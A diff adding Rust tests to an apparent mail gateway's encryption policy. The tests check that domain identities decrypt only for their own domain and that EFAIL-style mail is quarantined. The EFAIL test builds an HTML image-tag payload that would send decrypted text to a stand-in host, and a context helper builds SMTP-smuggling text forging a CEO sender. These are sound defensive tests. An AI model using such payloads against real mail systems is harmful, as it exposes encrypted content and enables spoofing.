@@ -152,6 +152,63 @@ fn rule_13_what_is_encrypted_to_both_is_opened_for_both() {
     }
 }
 
+/// An identity that has the domain decrypts for each of its addresses, and for no other domain's.
+#[test]
+fn rule_13_an_identity_of_the_domain_opens_for_the_domain() {
+    let mut policy = policy();
+    let gateway = policy.domain_reader("gateway", "gateway@example.org", "example.org");
+    let mail = encrypted(&policy, &entity(), &[&gateway]);
+    for address in [ALICE, "Anybody@EXAMPLE.org"] {
+        let ran = run(&policy, &mail, &[address]);
+        assert!(ran.copy().reveals(SECRET), "{address}: {ran:#?}");
+    }
+    for address in ["eve@sub.example.org", "eve@example.org.nowhere.example"] {
+        let ran = policy.run(&mail, SENDER, &[address], &CLIENT);
+        assert!(
+            ran.copies.iter().all(|copy| !copy.reveals(SECRET)),
+            "{address}: {ran:#?}"
+        );
+    }
+}
+
+/// EFAIL: what she captured stands between two parts of her own, or is forwarded. The default
+/// policy quarantines the mail, as it came.
+#[test]
+fn rule_08_an_encrypted_part_in_a_clear_tree_is_quarantined_closed() {
+    let mut policy = policy();
+    let alice = policy.reader("alice", ALICE);
+    let captured = encrypted(&policy, &entity(), &[&alice]);
+    let (_, part) = captured.split_once("Message-ID: <1@e.example>\n").unwrap();
+    let part = part.replace("MIME-Version: 1.0\n", "");
+    let html = |text: &str| format!("--x\nContent-Type: text/html\n\n{text}\n");
+    let trees = [
+        format!(
+            "Content-Type: multipart/mixed; boundary=x\n\n{}--x\n{part}\n{}--x--\n",
+            html("<img src=\"http://efail.example/"),
+            html("\">")
+        ),
+        format!("Content-Type: message/rfc822\n\nFrom: {SENDER}\nMIME-Version: 1.0\n{part}"),
+    ];
+    let open: Vec<_> = trees
+        .iter()
+        .map(|tree| with_fields(tree.as_bytes()))
+        .collect();
+    // And inside an envelope of her own.
+    let hidden = encrypted(
+        &policy,
+        trees[0].replace('\n', "\r\n").as_bytes(),
+        &[&alice],
+    );
+    for mail in open.iter().chain([&hidden]) {
+        let ran = policy.run(mail, SENDER, &[ALICE], &CLIENT);
+        assert_eq!(ran.report["disposition"], "quarantine", "{mail}\n{ran:#?}");
+        assert!(
+            ran.copies.iter().all(|copy| !copy.reveals(SECRET)),
+            "{ran:#?}"
+        );
+    }
+}
+
 /// The text of a second transaction, behind each end of data that some server takes for one.
 fn smuggling(end: &str) -> Vec<u8> {
     let second = "MAIL FROM:<ceo@example.org>\r\nRCPT TO:<bob@example.org>\r\nDATA\r\n\
